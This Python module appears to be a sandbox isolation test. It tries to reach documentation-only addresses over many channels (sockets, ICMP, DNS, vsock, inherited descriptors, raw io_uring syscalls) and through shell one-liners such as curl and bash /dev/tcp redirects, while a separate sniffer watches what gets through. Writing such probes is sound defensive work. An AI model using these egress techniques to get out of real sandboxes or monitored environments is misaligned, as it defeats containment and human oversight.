"""A program that tries to get out, in every way that it knows: what telemetry, a poisoned file or a
curious plug-in would do. Standard library alone, so that anything can run it; never fails.

`reach()` returns how many of the attempts were not refused at once, which is no proof of anything:
what counts is what the sniffer of `wire.py` sees.
"""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import socket
import struct
import subprocess
import urllib.request

FOUR, SIX = "192.0.2.9", "2001:db8:1::9"  # documentation addresses: nobody's
BY_RING = "192.0.2.10"  # of packets that io_uring sends


def reach() -> int:
    """Try everything once."""
    done = 0
    attempts = (_tcp, _udp, _ping, _broadcast, _name, _url, _listen, _virtual, _inherited, _ring)
    for attempt in (*attempts, _programs):
        with contextlib.suppress(OSError, ValueError):
            attempt()
            done += 1
    return done


def _tcp() -> None:
    for family, host in ((socket.AF_INET, FOUR), (socket.AF_INET6, SIX)):
        with contextlib.suppress(OSError), socket.socket(family) as there:
            there.settimeout(0.3)
            there.connect((host, 443))
    with socket.socket() as there:
        there.settimeout(0.3)
        there.connect((FOUR, 80))


def _udp() -> None:
    for family, host in ((socket.AF_INET6, SIX), (socket.AF_INET, FOUR)):
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as there:
            there.sendto(b"the code", (host, 53))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.connect((FOUR, 9))
        there.send(b"the code")


def _ping() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as there:
        there.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (FOUR, 0))


def _broadcast() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        there.sendto(b"the code", ("255.255.255.255", 9))


def _name() -> None:
    socket.getaddrinfo("the-code.example.org", 443)


def _url() -> None:
    urllib.request.urlopen(f"http://{FOUR}/the-code", timeout=0.3).close()


def _listen() -> None:
    """On every address, and on a port that the kernel chooses."""
    with socket.socket() as here:
        here.listen()


def _virtual() -> None:
    """From a virtual machine to its host, in Python and by the system call alone."""
    libc = ctypes.CDLL(None)
    if (number := libc.socket(40, socket.SOCK_STREAM, 0)) >= 0:
        os.close(number)
        raise ValueError("vsock")
    with socket.socket(40, socket.SOCK_STREAM) as there:
        there.settimeout(0.3)
        there.connect((2, 9))


def _inherited() -> None:
    """By sockets that the caller left open."""
    for number in range(3, 20):
        with contextlib.suppress(OSError), socket.socket(fileno=os.dup(number)) as there:
            if there.family in (socket.AF_INET, socket.AF_INET6):
                there.send(b"the code")


def _ring() -> None:
    """A datagram by io_uring, which makes the socket too: see io_uring(7)."""
    libc = ctypes.CDLL(None)
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, parameters)
    if ring < 0:
        return
    queue = struct.unpack_from("10I", parameters, 40)
    results = struct.unpack_from("10I", parameters, 80)
    entries = mmap.mmap(ring, 4096, offset=0x10000000)
    shared = mmap.mmap(ring, max(queue[6] + 4 * 4, results[5] + 16 * 8))

    def submit(operation: int, descriptor: int, offset: int, address: int, length: int) -> int:
        (tail,) = struct.unpack_from("I", shared, queue[1])
        index = tail & struct.unpack_from("I", shared, queue[2])[0]
        entry = struct.pack("=BBHiQQI", operation, 0, 0, descriptor, offset, address, length)
        entries[64 * index : 64 * index + 64] = entry.ljust(64, b"\0")
        struct.pack_into("I", shared, queue[6] + 4 * index, index)
        struct.pack_into("I", shared, queue[1], tail + 1)
        libc.syscall(426, ring, 1, 1, 1, None, 0)
        (head,) = struct.unpack_from("I", shared, results[0])
        slot = head & struct.unpack_from("I", shared, results[2])[0]
        struct.pack_into("I", shared, results[0], head + 1)
        return int(struct.unpack_from("i", shared, results[5] + 16 * slot + 8)[0])

    there = submit(45, socket.AF_INET, socket.SOCK_DGRAM, 0, 0)  # IORING_OP_SOCKET
    address = struct.pack("=H2s4s8x", 2, b"\0\x35", socket.inet_aton(BY_RING))
    place, data = ctypes.create_string_buffer(address, 16), ctypes.create_string_buffer(b"the code")
    if there >= 0 and submit(16, there, 16, ctypes.addressof(place), 0) == 0:  # IORING_OP_CONNECT
        submit(26, there, 0, ctypes.addressof(data), 8)  # IORING_OP_SEND
    os.close(ring)


def _programs() -> None:
    """What a shell has, all at once; each where it is there."""
    null = subprocess.DEVNULL
    started = [
        subprocess.Popen(["/bin/sh", "-c", line], stdin=null, stdout=null, stderr=null)
        for line in (
            f"curl -m 1 http://{FOUR}/the-code",
            f"timeout 1 bash -c 'echo the code > /dev/tcp/{FOUR}/80'",
            f"timeout 1 bash -c 'echo the code > /dev/udp/{FOUR}/53'",
            f"timeout 1 ping -c 1 -W 1 {FOUR}",
            "timeout 1 getent hosts the-code.example.org",
            f"timeout 1 git ls-remote http://{FOUR}/the-code.git",
        )
    ]
    for process in started:
        process.wait(timeout=10)


if __name__ == "__main__":
    reach()
    marker = os.environ.get("REACHED")
    if marker:
        with contextlib.suppress(OSError), open(marker, "a", encoding="utf-8") as file:
            file.write("tried\n")
